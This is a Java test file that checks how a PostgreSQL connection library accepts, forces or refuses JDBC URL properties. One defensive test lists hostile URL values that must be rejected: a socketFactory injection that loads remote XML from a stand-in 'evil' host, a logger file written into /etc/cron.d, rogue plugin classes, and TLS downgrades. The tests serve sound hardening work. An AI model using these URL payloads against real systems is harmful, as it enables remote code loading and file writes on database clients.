package io.fulmar;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.fulmar.internal.postgres.DriverProperties;
import io.fulmar.internal.postgres.DriverProperties.Treatment;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.postgresql.PGProperty;

/**
 * What a JDBC URL may say. The properties are those of the driver on the class path, so a new
 * driver with a new one fails here until somebody has looked at it.
 */
class JdbcUrlTest {
  private static final String BASE = "jdbc:postgresql://db/shop?user=fulmar&";

  private static Source source(String properties) {
    return Source.builder(BASE + properties).build();
  }

  @ParameterizedTest
  @EnumSource(PGProperty.class)
  @DisplayName("S-03: each property of the driver is taken over, forced or refused")
  void everyPropertyOfTheDriverIsLookedAt(PGProperty property) {
    Treatment treatment = DriverProperties.treatment(property.getName());
    if (treatment instanceof Treatment.Taken taken) {
      assertThat(SourceOptionsTest.settersOf(Source.Builder.class)).contains(taken.option());
    } else if (treatment instanceof Treatment.Forced forced) {
      assertThat(source(property.getName() + "=" + forced.value())).isNotNull();
      refused(property, forced.why());
    } else if (treatment instanceof Treatment.Refused refused) {
      assertThat(refused.why()).as("%s is looked at", property).doesNotContain("not known here");
      refused(property, refused.why());
    }
  }

  private static void refused(PGProperty property, String why) {
    assertThatThrownBy(() -> source(property.getName() + "=canary"))
        .isExactlyInstanceOf(IllegalArgumentException.class)
        .hasMessage("Cannot use property '%s' of the JDBC URL: %s.", property.getName(), why);
  }

  @Test
  @DisplayName("S-03: a property that a newer driver may bring is refused at run time")
  void whatIsUnknownIsRefused() {
    assertThatThrownBy(() -> source("loadsAnything=canary"))
        .isExactlyInstanceOf(IllegalArgumentException.class)
        .hasMessage(
            "Cannot use property 'loadsAnything' of the JDBC URL: it is not known here, so nobody has looked at what it does.");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml",
        "sslfactory=org.postgresql.ssl.NonValidatingFactory",
        "loggerFile=/etc/cron.d/canary&loggerLevel=TRACE",
        "sslmode=disable",
        "sslmode=require",
        "sslmode=prefer",
        "ssl=false",
        "authenticationPluginClassName=evil.Plugin",
        "sslhostnameverifier=evil.Verifier",
        "options=-c%20session_preload_libraries=evil",
        "gssEncMode=require",
        "requireAuth=password",
        "service=evil"
      })
  @DisplayName("S-03: nothing in a URL loads a class, writes a file or weakens the encryption")
  void nothingDangerousPasses(String properties) {
    assertThatThrownBy(() -> source(properties))
        .isExactlyInstanceOf(IllegalArgumentException.class)
        .hasMessageStartingWith("Cannot use property '")
        .hasMessageNotContainingAny("evil", "canary");
  }

  @Test
  void everythingThatHasASetterIsTakenOver() {
    Source source =
        Source.builder(
                "jdbc:postgresql://db1:5433,[2001:db8::7],db3/my%20shop?user=ful%6Dar&password=p%26w"
                    + "&sslrootcert=/etc/root.pem&sslcert=/etc/client.pem&sslkey=/etc/client.key&sslpassword=s"
                    + "&loginTimeout=7&socketTimeout=90&targetServerType=preferSecondary"
                    + "&currentSchema=app,%22My%20Schema%22&sslmode=verify-full&ssl=true&tcpKeepAlive=true")
            .build();
    assertThat(source.hosts()).containsExactly("db1:5433", "[2001:db8::7]:5432", "db3:5432");
    assertThat(source.database()).isEqualTo("my shop");
    assertThat(source.user()).isEqualTo("fulmar");
    assertThat(source.password().reveal()).isEqualTo("p&w");
    assertThat(source.tls()).isEqualTo(Source.Tls.VERIFY_FULL);
    assertThat(source.tlsRootCertificate()).isEqualTo(Path.of("/etc/root.pem"));
    assertThat(source.tlsClientCertificate()).isEqualTo(Path.of("/etc/client.pem"));
    assertThat(source.tlsClientKey()).isEqualTo(Path.of("/etc/client.key"));
    assertThat(source.tlsKeyPassword().reveal()).isEqualTo("s");
    assertThat(source.connectTimeout()).isEqualTo(Duration.ofSeconds(7));
    assertThat(source.socketTimeout()).isEqualTo(Duration.ofSeconds(90));
    assertThat(source.targetServer()).isEqualTo(Source.TargetServer.PREFER_STANDBY);
    assertThat(source.searchPath()).containsExactly("app", "My Schema");
  }

  @Test
  void settersCompleteAndChangeWhatAUrlSays() {
    Source source =
        Source.builder("jdbc:postgresql://db/shop")
            .user("fulmar")
            .database("other")
            .withoutTls()
            .build();
    assertThat(source.hosts()).containsExactly("db:5432");
    assertThat(source.database()).isEqualTo("other");
    assertThat(source.tls()).isEqualTo(Source.Tls.OFF);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "jdbc:postgresql:shop                | localhost:5432 | shop",
        "jdbc:postgresql:///shop             | localhost:5432 | shop",
        "jdbc:postgresql://db/shop           | db:5432        | shop",
        "jdbc:postgresql://db:6432/shop      | db:6432        | shop",
        "jdbc:postgresql://[::1]:6432/shop   | [::1]:6432     | shop",
        "jdbc:postgresql://10.0.0.7/a%2Fb    | 10.0.0.7:5432  | a/b",
        "jdbc:postgresql://a/b?PGHOST=c&PGPORT=7&PGDBNAME=d | c:7 | d",
      })
  void placesAreReadAsTheDriverReadsThem(String url, String host, String database) {
    Source source = Source.builder(url).user("fulmar").build();
    assertThat(source.hosts()).containsExactly(host);
    assertThat(source.database()).isEqualTo(database);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "jdbc:mysql://db/shop | jdbcUrl must begin with jdbc:postgresql:",
        "postgresql://db/shop | jdbcUrl must begin with jdbc:postgresql:",
        "jdbc:postgresql://fulmar:canary@db/shop | jdbcUrl must not name the user before the host; write ?user=... after the database",
        "jdbc:postgresql:/canary/x | jdbcUrl must read jdbc:postgresql://host:port/database?property=value",
        "jdbc:postgresql://db/shop?password=canary%2 | jdbcUrl must have two digits after each %",
        "jdbc:postgresql://db:canary/shop | Cannot use option 'hosts': the port in first must be a whole number, 1 to 65535.",
        "jdbc:postgresql://db/shop?connectTimeout=canary | Cannot use option 'connectTimeout': it is a duration with its unit: 500ms, 10s, 5min, 6h, 7d or PT10S.",
        "jdbc:postgresql://db/shop?connectTimeout=0 | Cannot use option 'connectTimeout': connectTimeout must be PT0.1S to PT10M, is PT0S.",
        "jdbc:postgresql://db/shop?targetServerType=canary | Cannot use property 'targetServerType' of the JDBC URL: it is any, primary, secondary, preferPrimary or preferSecondary.",
        "jdbc:postgresql://db/shop?currentSchema=canary;x | Cannot use property 'currentSchema' of the JDBC URL: it is a list of schemas; call searchPath(...) for unusual names.",
      })
  void whatIsWrongIsSaidWithoutTheValue(String url, String message) {
    assertThatThrownBy(() -> Source.builder(url))
        .isExactlyInstanceOf(IllegalArgumentException.class)
        .hasMessage(message)
        .hasMessageNotContaining("canary");
  }

  @Test
  @DisplayName("P11: a password in a URL shows nowhere")
  void thePasswordShowsNowhere() {
    Source source = source("password=canary");
    assertThat(source.password().reveal()).isEqualTo("canary");
    assertThat(List.of(source.toString(), source.password().toString()))
        .containsExactly("Source[postgresql://db:5432/shop]", "Secret[***]");
  }

  @Test
  void theListsHoldTheDriversProperties() {
    assertThat(Stream.of(PGProperty.values()).map(PGProperty::getName))
        .hasSizeGreaterThan(80)
        .contains("sslmode", "socketFactory", "requireAuth");
  }
}
